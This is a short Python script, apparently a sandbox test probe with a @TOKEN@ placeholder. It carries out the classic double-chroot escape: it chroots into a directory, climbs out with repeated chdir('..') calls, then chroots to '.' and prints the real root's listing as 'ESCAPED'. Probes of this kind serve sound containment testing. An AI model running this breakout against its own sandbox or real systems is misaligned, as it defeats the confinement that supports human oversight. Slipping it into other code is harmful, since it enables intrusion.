# Changes its root twice, to step out of the first.
import os
try:
    os.mkdir("/tmp/aha_attack_@TOKEN@")
except OSError:
    pass
for folder in ("/tmp/aha_attack_@TOKEN@", "/usr", "."):
    try:
        os.chroot(folder)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        print("ESCAPED: chroot", os.listdir("/"))
    except OSError as error:
        print("stopped:", error)
